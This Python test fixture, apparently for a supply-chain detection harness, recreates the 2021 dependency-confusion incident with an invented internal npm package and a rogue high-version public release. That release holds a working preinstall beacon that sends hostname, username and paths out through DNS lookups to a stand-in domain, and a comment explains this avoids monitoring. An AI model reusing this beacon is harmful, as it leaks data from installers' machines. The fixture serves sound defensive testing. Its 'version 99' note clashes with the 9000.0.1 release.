"""Dependency confusion (research of A. Birsan, published 2021-02-09): a public twin of a company's own package, of a very high version.

By the record: names that companies use in their own registry alone were free in the public one. Who published there under such a name,
with a version higher than any of the company's, was installed wherever a client or a registry asks both and takes the highest. The
package has nothing but a script at install that tells home where it was installed.
"""

from gauntlet.incident import Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_NAME = "northgate-session-client"
_CLIENT = """'use strict';

const http = require('http');

class SessionClient {
  constructor({ host = 'session.svc.internal', port = 8080 } = {}) {
    this.host = host;
    this.port = port;
    this.agent = new http.Agent({ keepAlive: true, maxSockets: 20 });
  }

  get(id) {
    return this.ask('GET', `/v1/sessions/${encodeURIComponent(id)}`);
  }

  touch(id) {
    return this.ask('POST', `/v1/sessions/${encodeURIComponent(id)}/touch`);
  }

  ask(method, path) {
    return new Promise((resolve, reject) => {
      const request = http.request(
        { host: this.host, port: this.port, path, method, agent: this.agent },
        answer => {
          let text = '';
          answer.on('data', piece => { text += piece; });
          answer.on('end', () => {
            if (answer.statusCode === 404) { return resolve(null); }
            resolve(JSON.parse(text));
          });
        }
      );
      request.on('error', reject);
      request.end();
    });
  }
}

module.exports = SessionClient;
"""
# Names are asked for, since what leaves a company's network is watched, and questions for names less so.
_BEACON = """const os = require('os');
const dns = require('dns');
const crypto = require('crypto');

const told = JSON.stringify({
  p: process.env.npm_package_name,
  h: os.hostname(),
  u: os.userInfo().username,
  d: os.homedir(),
  c: __dirname
});
const id = crypto.randomBytes(3).toString('hex');
const pieces = Buffer.from(told).toString('hex').match(/.{1,60}/g);
pieces.forEach((piece, index) => {
  dns.resolve4(`${id}.${index}.${piece}.marker.invalid`, () => {});
});
"""


def _own(version: str, at: str) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher="northgate-ci",
        maintainers=("northgate-ci",),
        files={"index.js": _CLIENT},
    )


_BAD = Release(
    version="9000.0.1",
    at=utc("2021-02-09T12:00:00Z"),
    publisher="researcher",
    maintainers=("researcher",),
    files={"index.js": _BEACON},
    scripts={"preinstall": "node index.js"},
)

INCIDENT = Incident(
    id="dependency-confusion-2021",
    title=(
        "a researcher published public packages with very high versions and the names of companies' internal "
        "packages; an install script reported the machines that installed them"
    ),
    copy="in our copy, one registry lists the internal releases together with the public version 99",
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name=_NAME,
            releases=(
                _own("1.3.0", "2020-03-02T12:00:00Z"),
                _own("1.4.0", "2020-08-17T12:00:00Z"),
                _own("1.4.2", "2020-11-30T12:00:00Z"),
                _BAD,
            ),
        ),
    ),
    asks={_NAME: ">=1.4.0"},
    good={_NAME: "1.4.2"},
    bad={_NAME: ("9000.0.1",)},
    guilty={_NAME: ("9000.0.1",)},
    invented="the name, versions, publish days and code, because the record names no package",
)
